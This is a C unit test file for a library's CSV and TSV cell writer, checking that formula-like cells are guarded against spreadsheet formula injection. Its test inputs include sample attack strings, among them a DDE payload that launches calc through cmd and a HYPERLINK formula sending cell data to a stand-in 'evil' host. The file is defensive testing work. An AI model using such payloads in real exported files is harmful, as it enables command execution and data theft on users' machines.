/* lib/buf's CSV and TSV cells: the exact text a spreadsheet reads.  A cell a spreadsheet would
 * run as a formula (CSV injection: "=HYPERLINK(...)", "+", "-", "@", a leading tab or line
 * break) is written with a leading "'", inside the quotes RFC 4180 still asks for; a plain
 * negative number stays a number; everything else is written as it was. */
#include "tap.h"

#include "buf.h"

static cf_buf out = CF_BUF_INIT;

static const char *csv(const char *s)
{
	cf_buf_clear(&out);
	cf_buf_put_csv_field(&out, s);
	return cf_buf_oom(&out) ? "(oom)" : cf_buf_cstr(&out);
}

static const char *tsv(const char *s)
{
	cf_buf_clear(&out);
	cf_buf_put_tsv_field(&out, s);
	return cf_buf_oom(&out) ? "(oom)" : cf_buf_cstr(&out);
}

int main(void)
{
	/* What is left alone. */
	is_str(csv("Child K"), "Child K", "plain text is written as it is");
	is_str(csv("2026-04-30"), "2026-04-30", "a date is written as it is");
	is_str(csv("145"), "145", "a count is written as it is");
	is_str(csv(""), "", "an empty cell stays empty");
	is_str(csv("a = b"), "a = b", "'=' not at the start is text");
	is_str(csv("Child K, aged 8"), "\"Child K, aged 8\"", "a comma is still quoted");
	is_str(csv("say \"hi\""), "\"say \"\"hi\"\"\"", "a quote is still doubled");

	/* A negative number is a number, not a formula. */
	is_str(csv("-3"), "-3", "a negative count stays a number (csv)");
	is_str(tsv("-3"), "-3", "a negative count stays a number (tsv)");
	is_str(csv("-3.5"), "-3.5", "a negative decimal stays a number");
	is_int(cf_csv_cell_is_formula("-145"), 0, "-145 is not a formula");
	is_str(csv("-3+1"), "'-3+1", "arithmetic after a minus is a formula");
	is_str(csv("-3 days"), "'-3 days", "a minus and then text is guarded");
	is_str(csv("-"), "'-", "a lone minus is guarded");
	is_str(csv("-3."), "'-3.", "a minus, digits and a bare point is guarded");
	is_str(csv("-.5"), "'-.5", "a minus and a point without digits before it is guarded");
	is_str(csv("-1+cmd|' /C calc'!A0"), "'-1+cmd|' /C calc'!A0",
	       "the DDE payload behind a minus is guarded");
	is_str(csv("+3"), "'+3", "a plus sign is guarded (a spreadsheet makes it =+3)");

	/* Every character that starts a formula. */
	is_str(csv("=1+1"), "'=1+1", "'=' is guarded");
	is_str(csv("+1+1"), "'+1+1", "'+' is guarded");
	is_str(csv("-1+1"), "'-1+1", "'-' is guarded");
	is_str(csv("@SUM(A1:A2)"), "'@SUM(A1:A2)", "'@' is guarded");
	is_str(csv("\t=1+1"), "'\t=1+1", "a leading tab is guarded (csv)");
	is_str(csv("\r=1+1"), "\"'\r=1+1\"", "a leading CR is guarded, inside the quotes");
	is_str(csv("\n=1+1"), "\"'\n=1+1\"", "a leading LF is guarded, inside the quotes");
	is_str(csv("  =1+1"), "'  =1+1", "spaces before '=' do not hide it");

	/* The guard and RFC 4180 quoting together. */
	is_str(csv("=HYPERLINK(\"http://evil/?\"&A1,\"x\")"),
	       "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\"",
	       "a HYPERLINK formula: the guard inside the quotes, quotes doubled");
	is_str(csv("=A1,B1"), "\"'=A1,B1\"", "a formula with a comma: quoted, guard first");

	/* TSV: the same guard, and tabs and line breaks still become spaces. */
	is_str(tsv("Child K"), "Child K", "tsv: plain text is written as it is");
	is_str(tsv("=HYPERLINK(\"http://evil/?\"&A1,\"x\")"),
	       "'=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "tsv: a HYPERLINK formula is guarded");
	is_str(tsv("@x"), "'@x", "tsv: '@' is guarded");
	is_str(tsv("\t=1+1"), "' =1+1", "tsv: a leading tab is guarded and becomes a space");
	is_str(tsv("\r\n=1+1"), "'  =1+1", "tsv: a leading line break is guarded");
	is_str(tsv("a\tb\nc"), "a b c", "tsv: tabs and line breaks inside become spaces");

	cf_buf_free(&out);
	return tap_done();
}
